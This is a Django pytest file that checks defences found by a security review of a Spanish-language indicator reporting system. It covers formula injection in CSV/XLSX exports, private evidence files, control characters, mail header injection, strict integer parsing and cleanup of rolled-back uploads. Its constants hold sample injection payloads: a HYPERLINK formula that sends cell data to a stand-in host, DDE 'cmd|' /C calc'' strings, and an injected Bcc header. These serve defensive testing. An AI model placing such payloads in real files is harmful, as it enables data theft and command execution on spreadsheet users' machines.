"""What the outside attack of the issue «Production truth» found, one section per defect: formula
text in table exports, evidence links to /media/, control characters, plain-text mail, strict
integers in URLs and parameters, and files of a rolled-back upload. Every test here runs on SQLite
and on PostgreSQL (DATABASE_URL)."""

import csv
import io
import logging
import re
import zipfile
from decimal import Decimal as D
from pathlib import Path
from xml.etree import ElementTree

import pytest
from django.core import mail
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import URLPattern, get_resolver, reverse
from django.utils import timezone

from common.files import atomic_with_files
from common.formula_safety import FORMULA_START, NUMBER
from common.ids import MAX_ID, parse_id, parse_int
from compliance.engine import compute_year
from indicators.models import Indicator
from interchange.exports import render_export
from interchange.importer import ImportErrors, UnreadableFile, import_file
from reporting.choices import ProgressStatus as S
from reporting.evidence import attach_evidence
from reporting.models import Evidence, Progress, ProgressTransition
from reporting.services import save_progress
from reporting.workflow import Action, transition
from tests.factories import ProgressFactory
from tests.sed_files import base_row, write_csv, write_xlsx

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://ataque.invalid/?d="&A1,"Ver detalle")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"


def sent(world, indicator=None, **kwargs):
    return ProgressFactory(indicator=indicator or world.ind_a, status=S.ENVIADO, submitted_by=world.cap_a,
                           submitted_at=timezone.now(), **kwargs)


# --- 1. Formula-like text in every CSV and XLSX export ------------------------------------------


def csv_cells(data):
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_csv_safe(data, *texts):
    """No cell a spreadsheet would run; each formula-like text is there, behind an apostrophe."""
    cells = csv_cells(data)
    running = [c for c in cells if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]
    assert running == []
    for text in texts:
        assert any(cell.startswith("'" + text) or cell == "'" + text for cell in cells), (text, cells)


def xlsx_parts(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist() if name.endswith(".xml")}


def assert_xlsx_safe(data, *texts):
    """No formula in any sheet (openpyxl would write «=…» as one); the texts are plain strings."""
    parts = xlsx_parts(data)
    sheets = {name: xml for name, xml in parts.items() if name.startswith("xl/worksheets/")}
    assert sheets and not [name for name, xml in sheets.items() if re.search(rb"<(\w+:)?f[ >]", xml)]
    strings = [node.text or "" for xml in parts.values() for node in ElementTree.fromstring(xml).iter()
               if node.tag.endswith("}t")]
    for text in texts:
        assert any(text in string for string in strings), text


@pytest.fixture
def formula_world(world):
    """Formula-like texts wherever a table or report shows text: indicator id and name, programa
    and UR names, the capturista's name and an avance's justification."""
    world.ind_a.external_id, world.ind_a.name = "=2+5", FORMULA
    world.ind_a.save()
    world.program_a.name = CALC
    world.program_a.save()
    world.unit_a.name = MINUS
    world.unit_a.save()
    world.cap_a.first_name = "+cmd|' /C calc'!A0"
    world.cap_a.save()
    world.progress = sent(world, value=D(50), cause=FORMULA, effect=CALC)
    compute_year(2024)
    return world


TABLE_EXPORTS = [
    ("simir:indicator_list", {}, [FORMULA, "=2+5"]),
    ("simir:review_queue", {"estado": ""}, ["=2+5 " + FORMULA, "+cmd|' /C calc'!A0"]),
    ("simir:dashboard", {}, [CALC]),
    ("simir:dashboard", {"tabla": "ur"}, [MINUS]),
]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("name, params, texts", TABLE_EXPORTS, ids=["indicadores", "revision", "tablero", "tablero-ur"])
def test_every_table_export_neutralises_formula_text(formula_world, client, name, params, texts, export_format):
    client.force_login(formula_world.coord)
    args = [2024, 1] if name == "simir:dashboard" else []
    response = client.get(reverse(name, args=args), {**params, "_export": export_format})
    assert response.status_code == 200
    (assert_csv_safe if export_format == "csv" else assert_xlsx_safe)(response.getvalue(), *texts)


def test_audit_and_shcp_exports_neutralise_formula_text(formula_world, client):
    client.force_login(formula_world.coord)
    audit = client.get(reverse("simir:audit_xlsx", args=[formula_world.ind_a.pk]))
    assert audit.status_code == 200
    assert_xlsx_safe(audit.content, FORMULA)
    transition(formula_world.coord, formula_world.progress, Action.APROBAR)
    csv_file, xlsx_file = io.BytesIO(), io.BytesIO()
    render_export(2024, "csv", csv_file)
    render_export(2024, "xlsx", xlsx_file, quarter=1)
    assert_csv_safe(csv_file.getvalue(), FORMULA, CALC, MINUS)
    assert_xlsx_safe(xlsx_file.getvalue(), FORMULA, CALC, MINUS)


def test_numbers_of_a_table_export_keep_no_apostrophe(formula_world, client):
    sent(formula_world, formula_world.ind_b, value=D("-1955.5"))
    client.force_login(formula_world.coord)
    cells = csv_cells(client.get(reverse("simir:review_queue"), {"estado": "", "_export": "csv"}).getvalue())
    assert "-1,955.50" in cells and "'-1,955.50" not in cells


def test_every_csv_is_written_through_formula_safety():
    """One path: no other module builds its own CSV writer."""
    root = Path(__file__).resolve().parent.parent
    writers = [str(path.relative_to(root)) for app in ("common", "programs", "indicators", "reporting", "compliance",
                                                        "interchange", "jobs", "demo", "config")
               for path in (root / app).rglob("*.py") if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())]
    assert writers == ["common/formula_safety.py"]


# --- 2. Evidence only through the scope-checked view ------------------------------------------


@pytest.fixture
def evidence(world):
    progress = sent(world)
    return Evidence.objects.create(progress=progress, file=SimpleUploadedFile("acta.pdf", b"%PDF-1.4"),
                                   description="Acta de verificación")


def test_review_page_links_evidence_through_the_download_view(evidence, world, client):
    client.force_login(world.coord)
    html = client.get(reverse("simir:review_detail", args=[evidence.progress.pk])).content.decode()
    assert f'href="{reverse("simir:evidence", args=[evidence.pk])}"' in html
    assert "/media/" not in html


def test_admin_links_evidence_through_the_download_view(evidence, admin_client):
    html = admin_client.get(reverse("admin:reporting_progress_change", args=[evidence.progress.pk])).content.decode()
    assert f'href="{reverse("simir:evidence", args=[evidence.pk])}"' in html
    assert "/media/" not in html


def test_a_missing_evidence_file_is_a_spanish_404(evidence, world, client):
    evidence.file.storage.delete(evidence.file.name)
    client.force_login(world.coord)
    response = client.get(reverse("simir:evidence", args=[evidence.pk]))
    assert response.status_code == 404
    assert "ya no está disponible" in response.content.decode()


def test_media_is_never_served(world, client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    settings.STORAGES = {**settings.STORAGES, "default": {"BACKEND": "django.core.files.storage.FileSystemStorage"}}
    stored = Evidence.objects.create(progress=sent(world), file=SimpleUploadedFile("acta.pdf", b"%PDF-1.4"))
    assert (tmp_path / stored.file.name).exists()
    client.force_login(world.coord)
    for debug in (False, True):
        settings.DEBUG = debug
        assert client.get(f"/media/{stored.file.name}").status_code == 404
        assert client.get(f"/static/../media/{stored.file.name}").status_code == 404


def test_media_inside_a_static_folder_fails_the_checks(settings):
    from common.checks import media_is_private

    assert media_is_private(None) == []
    settings.MEDIA_ROOT = Path(settings.STATICFILES_DIRS[0]) / "evidencias"
    assert [error.id for error in media_is_private(None)] == ["simir.E001"]


# --- 3. Control characters ---------------------------------------------------------------------


def grid_post(world, action="guardar", **fields):
    """One capture-grid row of world.ind_a (a Porcentaje: `value` is posted as value / 100)."""
    row = f"r{world.ind_a.pk}-3"
    if "value" in fields:
        fields["numerator"], fields["denominator"] = fields.pop("value"), "100"
    data = {f"{row}-{name}": value for name, value in {"version": "", "cause": "", "effect": "", "other_reasons": "",
                                                       **fields}.items()}
    data["action"] = f"enviar:{world.ind_a.pk}-3" if action == "enviar" else action
    return data


CONTROLS = ["\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x1f"]


@pytest.mark.parametrize("char", CONTROLS, ids=[f"x{ord(c):02x}" for c in CONTROLS])
def test_control_characters_in_a_capture_are_a_400_naming_the_field(world, client, char):
    client.force_login(world.cap_a)
    url = reverse("simir:capture", args=[2024, 1, world.program_a.pk])
    response = client.post(url, grid_post(world, value="80", cause=f"falta{char}x"))
    assert response.status_code == 400
    assert f"El campo «r{world.ind_a.pk}-3-cause» contiene caracteres de control" in response.content.decode()
    assert not Progress.objects.exists()


@pytest.mark.parametrize("url, params", [
    ("/indicadores/", {"q": "\x00"}), ("/revision/", {"ejercicio": "2024\x00"}), ("/tablero/2024/1/", {"programa": "1\x00"}),
    ("/admin/indicators/indicator/", {"q": "abc\x00"}), ("/admin/reporting/progress/", {"o": "\x00"}),
    ("/indicadores/", {"q\x00": "x"}),
])
def test_control_characters_in_filters_and_searches_are_a_400(world, client, url, params):
    world.coord.is_staff = world.coord.is_superuser = True
    world.coord.save()
    client.force_login(world.coord)
    response = client.get(url, params)
    assert response.status_code == 400
    name = next(iter(params)).replace("\x00", "\\x00")
    assert f"El campo «{name}» contiene caracteres de control" in response.content.decode()


def test_control_characters_in_the_admin_and_the_login_are_a_400(world, client):
    response = client.post(reverse("login"), {"username": "cap_a\x00", "password": "x"})
    assert response.status_code == 400 and "«username»" in response.content.decode()
    world.coord.is_staff = world.coord.is_superuser = True
    world.coord.save()
    client.force_login(world.coord)
    url = reverse("admin:indicators_indicator_change", args=[world.ind_a.pk])
    response = client.post(url, {"name": "Nombre\x00nuevo"})
    assert response.status_code == 400 and "«name»" in response.content.decode()
    world.ind_a.refresh_from_db()
    assert "nuevo" not in world.ind_a.name


def test_tab_and_line_breaks_are_welcome(world, client):
    client.force_login(world.cap_a)
    url = reverse("simir:capture", args=[2024, 1, world.program_a.pk])
    response = client.post(url, grid_post(world, value="80", cause="Primera línea\r\nsegunda\tcon tabulador"))
    assert response.status_code == 302
    assert Progress.objects.get().cause == "Primera línea\r\nsegunda\tcon tabulador"


def test_the_live_preview_gets_its_400_as_json(world, client):
    client.force_login(world.cap_a)
    response = client.get(reverse("simir:capture_preview", args=[world.ind_a.pk]),
                          {"ejercicio": "2024", "mes": "3", "value": "8\x000"}, HTTP_ACCEPT="application/json")
    assert response.status_code == 400 and "«value»" in response.json()["error"]


def test_imported_control_characters_are_stripped_and_noted(db, tmp_path):
    path = write_csv(tmp_path / "f.csv", [base_row(NOMBRE_INDICADOR="Porcentaje\x00 de\x1b personal",
                                                   AVANCE_MES3="5", AVANCE_CAUSA_MES3="Sin\x0b plazas\r\nni\tcontrato")])
    report = import_file(path, recompute=False)
    indicator = Indicator.objects.get()
    assert indicator.name == "Porcentaje de personal"
    assert Progress.objects.get().cause == "Sin plazas\r\nni\tcontrato"
    lines = list(report.lines())
    assert "normalizado: NOMBRE_INDICADOR: se quitaron caracteres de control (filas: 1)" in lines
    assert "normalizado: AVANCE_CAUSA_MES3: se quitaron caracteres de control (filas: 1)" in lines


@pytest.mark.parametrize("raw", [b"\x00", b"\x07", b"&#7;", b"&#x1b;"])
def test_an_xlsx_carrying_control_characters_is_a_clear_message(db, tmp_path, raw):
    """XML cannot hold them, so such a workbook is damaged: it is refused, never a traceback."""
    path = write_xlsx(tmp_path / "f.xlsx", [base_row(NOMBRE_INDICADOR="Porcentaje MARCA de personal")])
    with zipfile.ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    with zipfile.ZipFile(path, "w") as target:
        for name, content in parts.items():
            target.writestr(name, content.replace(b"MARCA", raw))
    with pytest.raises(UnreadableFile, match="No se pudo leer el libro XLSX"):
        import_file(path, recompute=False)
    assert not Indicator.objects.exists()


# --- 4. Plain-text mail, one-line subjects, one-line indicator ids --------------------------------


def test_an_approval_with_a_multiline_id_never_fails_and_mails_raw_text(world, client,
                                                                        django_capture_on_commit_callbacks):
    # Stored before the id was validated (or by a script): the mail must cope all the same.
    Indicator.objects.filter(pk=world.ind_a.pk).update(external_id="77\r\n01 Bcc: x@ataque.invalid",
                                                       name='Porcentaje de "personal" & <médicos>')
    progress = sent(world, value=D(80))
    client.force_login(world.coord)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("simir:review_detail", args=[progress.pk]), {"action": Action.APROBAR})
    assert response.status_code == 302
    progress.refresh_from_db()
    assert progress.status == S.APROBADO
    (message,) = mail.outbox
    assert message.subject == "SIMIR: avance aprobado — 77 01 Bcc: x@ataque.invalid (2024-03)"
    assert 'Porcentaje de "personal" & <médicos>' in message.body
    assert "&quot;" not in message.body and "&amp;" not in message.body and "&lt;" not in message.body


def test_returned_mail_keeps_the_note_as_written(world, django_capture_on_commit_callbacks):
    progress = sent(world, value=D(80))
    with django_capture_on_commit_callbacks(execute=True):
        transition(world.coord, progress, Action.DEVOLVER, note='Falta el "acta" <firmada> & sellada')
    assert 'Falta el "acta" <firmada> & sellada' in mail.outbox[0].body


def test_a_failing_notice_does_not_undo_the_answer(world, client, monkeypatch, caplog,
                                                   django_capture_on_commit_callbacks):
    from reporting import notifications

    def smtp_down(*args, **kwargs):
        raise ConnectionRefusedError("smtp")

    monkeypatch.setattr(notifications, "send_mass_mail", smtp_down)
    progress = sent(world, value=D(80))
    client.force_login(world.coord)
    with caplog.at_level(logging.ERROR), django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("simir:review_detail", args=[progress.pk]), {"action": Action.APROBAR})
    assert response.status_code == 302
    assert Progress.objects.get(pk=progress.pk).status == S.APROBADO
    assert "No se pudo enviar el aviso" in caplog.text


def test_the_audit_file_of_an_odd_id_keeps_one_header(world, client):
    Indicator.objects.filter(pk=world.ind_a.pk).update(external_id='77"\r\n01')
    client.force_login(world.coord)
    response = client.get(reverse("simir:audit_xlsx", args=[world.ind_a.pk]))
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="auditoria_77\\" 01.xlsx"'


@pytest.mark.parametrize("external_id", ["1\n2", "1\r2", "1\t2", "1\x002", "1\u20282"])
def test_indicator_ids_are_one_line(world, external_id):
    world.ind_a.external_id = external_id
    with pytest.raises(ValidationError) as error:
        world.ind_a.full_clean()
    assert "saltos de línea" in error.value.message_dict["external_id"][0]


def test_imported_ids_with_line_breaks_are_refused(db, tmp_path):
    path = write_csv(tmp_path / "f.csv", [base_row(ID_INDICADOR="10\n01"), base_row(ID_INDICADOR="2", ID_UR="A\tYO")])
    with pytest.raises(ImportErrors) as error:
        import_file(path, recompute=False)
    assert error.value.errors == [
        "fila 2, columna ID_INDICADOR: No puede contener saltos de línea, tabuladores ni otros caracteres de control.",
        "fila 3, columna ID_UR: No puede contener saltos de línea, tabuladores ni otros caracteres de control.",
    ]
    assert not Indicator.objects.exists()


# --- 5. Strict integers --------------------------------------------------------------------------


BAD_INTEGERS = ["²", "٣", "-1", str(2**63), "99999999999999999999", "", "0", " 1", "1 ", "+1", "1.0", "1e3", "0x1",
                "１"]


@pytest.mark.parametrize("raw", BAD_INTEGERS)
def test_only_ascii_digits_within_bounds_are_ids(raw):
    assert parse_id(raw) is None


def test_ids_and_bounded_integers():
    assert parse_id("1") == 1 and parse_id(str(MAX_ID)) == MAX_ID and parse_id("007") == 7
    assert parse_int("0", minimum=0) == 0 and parse_int("13", maximum=12) is None and parse_int(None) is None


def web_patterns():
    (web,) = [p for p in get_resolver().url_patterns if getattr(p, "namespace", None) == "simir"]
    return [p for p in web.url_patterns if isinstance(p, URLPattern) and p.pattern.converters]


@pytest.mark.parametrize("raw", ["²", "٣", "-1", str(2**63), "99999999999999999999", "", "0"])
def test_a_bad_integer_anywhere_in_a_url_is_a_404(world, client, raw):
    world.coord.is_superuser = True
    world.coord.save()
    client.force_login(world.coord)
    valid = {"pk": 1, "fiscal_year": 2024, "quarter": 1, "program_id": world.program_a.pk}
    checked = 0
    for pattern in web_patterns():
        for bad in pattern.pattern.converters:
            route = re.sub(r"<(?:\w+:)?(\w+)>", lambda m: raw if m[1] == bad else str(valid[m[1]]), str(pattern.pattern))
            response = client.get("/" + route)
            assert response.status_code == 404, (route, response.status_code)
            checked += 1
    assert checked >= 15


def test_every_id_in_a_url_is_bounded():
    for pattern in web_patterns():
        assert "<int:" not in str(pattern.pattern), str(pattern.pattern)


@pytest.mark.parametrize("raw", ["²", "٣", "-1", str(2**63), "99999999999999999999", ""])
def test_bad_integers_in_parameters_are_never_a_500(world, client, raw):
    progress = sent(world, value=D(80))
    client.force_login(world.coord)
    approve = client.post(reverse("simir:review_approve_many"), {"seleccion": [raw]}, follow=True)
    assert approve.status_code == 200 and "Seleccione al menos un avance" in approve.content.decode()
    mixed = client.post(reverse("simir:review_approve_many"), {"seleccion": [raw, str(progress.pk)]})
    assert mixed.status_code == 302 and Progress.objects.get(pk=progress.pk).status == S.APROBADO
    Progress.objects.filter(pk=progress.pk).update(status=S.ENVIADO)
    assert client.get(reverse("simir:dashboard", args=[2024, 1]), {"programa": raw}).status_code == 404
    preview = reverse("simir:capture_preview", args=[world.ind_a.pk])
    for params in ({"ejercicio": raw, "mes": "3"}, {"ejercicio": "2024", "mes": raw}):
        response = client.get(preview, params)
        assert response.status_code == 400 and "Indique el ejercicio y el mes" in response.json()["error"]
    exports = client.post(reverse("simir:exports"), {"ejercicio": raw, "formato": "csv"})
    assert exports.status_code == 200 and "Indique el ejercicio" in exports.content.decode()
    quarter = client.post(reverse("simir:exports"), {"ejercicio": "2024", "trimestre": raw or "x", "formato": "csv"})
    assert quarter.status_code == 200 and "Indique el ejercicio" in quarter.content.decode()
    assert client.post(reverse("simir:exports"), {"ejercicio": "2024", "programa": raw or "x",
                                                  "formato": "csv"}).status_code == 404
    assert client.post(reverse("simir:recompute"), {"ejercicio": raw}).status_code == 404
    for params in ({"pagina": raw}, {"programa": raw}, {"ur": raw}, {"ejercicio": raw}, {"trimestre": raw},
                   {"orden": raw}):
        assert client.get(reverse("simir:review_queue"), params).status_code == 200
        assert client.get(reverse("simir:indicator_list"), params).status_code == 200


@pytest.mark.parametrize("raw", ["²", "٣", "-1", str(2**63), "99999999999999999999", ""])
def test_a_bad_loaded_version_is_no_version(world, client, raw):
    save_progress(world.cap_a, world.ind_a, 2024, 3, value=D(70))
    client.force_login(world.cap_a)
    response = client.post(reverse("simir:capture", args=[2024, 1, world.program_a.pk]),
                           grid_post(world, value="80", version=raw))
    assert response.status_code == 200 and "Otra persona" in response.content.decode()
    assert Progress.objects.get().value == D(70)


@pytest.mark.parametrize("raw", ["²", "٣", "-1", str(2**63), "99999999999999999999", ""])
def test_bad_integers_in_admin_filters_are_never_a_500(world, admin_client, raw):
    for url, params in (("/admin/indicators/indicator/", {"id__exact": raw}),
                        ("/admin/indicators/indicator/", {"responsible_unit__id__exact": raw}),
                        ("/admin/reporting/progress/", {"p": raw}), (f"/admin/indicators/indicator/{raw}/change/", {})):
        assert admin_client.get(url, params).status_code in (200, 302, 404), (url, params)


@pytest.mark.parametrize("cell, message", [
    ({"CICLO": "２０２４"}, "fila 2, columna CICLO: «２０２４» no es un año entre 1900 y 2200."),
    ({"CICLO": "²"}, "fila 2, columna CICLO: «²» no es un año entre 1900 y 2200."),
    ({"CICLO": "99999999999999999999"}, "fila 2, columna CICLO: «99999999999999999999» no es un año entre 1900"),
    ({"ID_NIVEL": "٣"}, "fila 2, columna ID_NIVEL: «٣» no es válido"),
    ({"ID_PP": "S٢٠٠"}, "fila 2, columna ID_PP: «S٢٠٠» no es una clave de programa"),
])
def test_imported_integers_are_ascii(db, tmp_path, cell, message):
    with pytest.raises(ImportErrors) as error:
        import_file(write_csv(tmp_path / "f.csv", [base_row(**cell)]), recompute=False)
    assert any(found.startswith(message) for found in error.value.errors), error.value.errors


# --- 6. Files of a rolled-back upload ----------------------------------------------------------


@pytest.fixture
def disk(settings, tmp_path):
    """A real FileSystemStorage in a temporary folder."""
    settings.MEDIA_ROOT = tmp_path
    settings.STORAGES = {**settings.STORAGES, "default": {"BACKEND": "django.core.files.storage.FileSystemStorage",
                                                          "OPTIONS": {"location": str(tmp_path)}}}
    return tmp_path


def stored_files(folder):
    return sorted(str(p.relative_to(folder)) for p in Path(folder).rglob("*") if p.is_file())


def capture_with_evidence(client, world, **fields):
    data = grid_post(world, **{"value": "80", **fields})
    data[f"r{world.ind_a.pk}-3-evidence"] = SimpleUploadedFile("acta.pdf", b"%PDF-1.4 acta")
    return client.post(reverse("simir:capture", args=[2024, 1, world.program_a.pk]), data)


def evidence_then(failure, disk):
    """attach_evidence as the grid calls it, failing once the file is stored."""
    from reporting import capture

    real = capture.attach_evidence

    def attach_and_fail(*args, **kwargs):
        real(*args, **kwargs)
        assert stored_files(disk), "the file should be on disk by now"
        raise failure

    return capture, "attach_evidence", attach_and_fail


def test_a_rejected_row_removes_its_uploaded_file(world, client, disk, monkeypatch):
    monkeypatch.setattr(*evidence_then(ValidationError("rechazo forzado después de guardar el archivo"), disk))
    client.force_login(world.cap_a)
    response = capture_with_evidence(client, world)
    assert response.status_code == 200 and "rechazo forzado" in response.content.decode()  # beside its row
    assert not Progress.objects.exists() and not Evidence.objects.exists()
    assert stored_files(disk) == []


def test_a_failure_after_the_file_is_saved_removes_it(world, client, disk, monkeypatch):
    monkeypatch.setattr(*evidence_then(RuntimeError("falla forzada después de guardar el archivo"), disk))
    client.force_login(world.cap_a)
    with pytest.raises(RuntimeError):
        capture_with_evidence(client, world)
    assert not Evidence.objects.exists() and stored_files(disk) == []


def test_a_saved_upload_keeps_its_file(world, client, disk):
    client.force_login(world.cap_a)
    assert capture_with_evidence(client, world).status_code == 302
    evidence = Evidence.objects.get()
    assert stored_files(disk) == [evidence.file.name]


def test_nested_blocks_remove_files_when_the_outer_one_rolls_back(world, disk):
    progress = ProgressFactory(indicator=world.ind_a)
    with pytest.raises(ZeroDivisionError), atomic_with_files():
        attach_evidence(world.cap_a, progress, SimpleUploadedFile("a.pdf", b"%PDF-1.4"))
        attach_evidence(world.cap_a, progress, SimpleUploadedFile("b.pdf", b"%PDF-1.4"))
        assert len(stored_files(disk)) == 2
        1 / 0
    assert stored_files(disk) == [] and not Evidence.objects.exists()


def test_a_failed_insert_removes_its_file(world, disk, monkeypatch):
    progress = ProgressFactory(indicator=world.ind_a)

    def failing_insert(self, *args, **kwargs):  # after the FileField stored the file, as a database error would
        assert stored_files(disk)
        raise RuntimeError("el INSERT falló")

    monkeypatch.setattr(Evidence, "_do_insert", failing_insert)
    with pytest.raises(RuntimeError):
        attach_evidence(world.cap_a, progress, SimpleUploadedFile("a.pdf", b"%PDF-1.4"))
    assert stored_files(disk) == []


# --- Long texts in the review form ------------------------------------------------------------


def test_a_review_note_past_2000_characters_is_refused_whole(world, client):
    progress = sent(world, value=D(80))
    client.force_login(world.coord)
    response = client.post(reverse("simir:review_detail", args=[progress.pk]),
                           {"action": Action.DEVOLVER, "note": "x" * 2001})
    assert response.status_code == 200 and "el máximo es 2,000" in response.content.decode()
    progress.refresh_from_db()
    assert (progress.status, progress.review_note, ProgressTransition.objects.count()) == (S.ENVIADO, "", 0)
    ok = client.post(reverse("simir:review_detail", args=[progress.pk]), {"action": Action.DEVOLVER, "note": "x" * 2000})
    assert ok.status_code == 302 and Progress.objects.get(pk=progress.pk).review_note == "x" * 2000


def test_long_notes_are_kept_whole_in_the_history_change_reason(world):
    """The history's reason was a 100-character column: a longer note was a 500 on PostgreSQL."""
    progress = sent(world, value=D(80))
    transition(world.coord, progress, Action.DEVOLVER, note="n" * 1500)
    assert progress.history.first().history_change_reason == "Devolver: " + "n" * 1500
    assert ProgressTransition.objects.get().note == "n" * 1500
    assert Progress.objects.get(pk=progress.pk).review_note == "n" * 1500
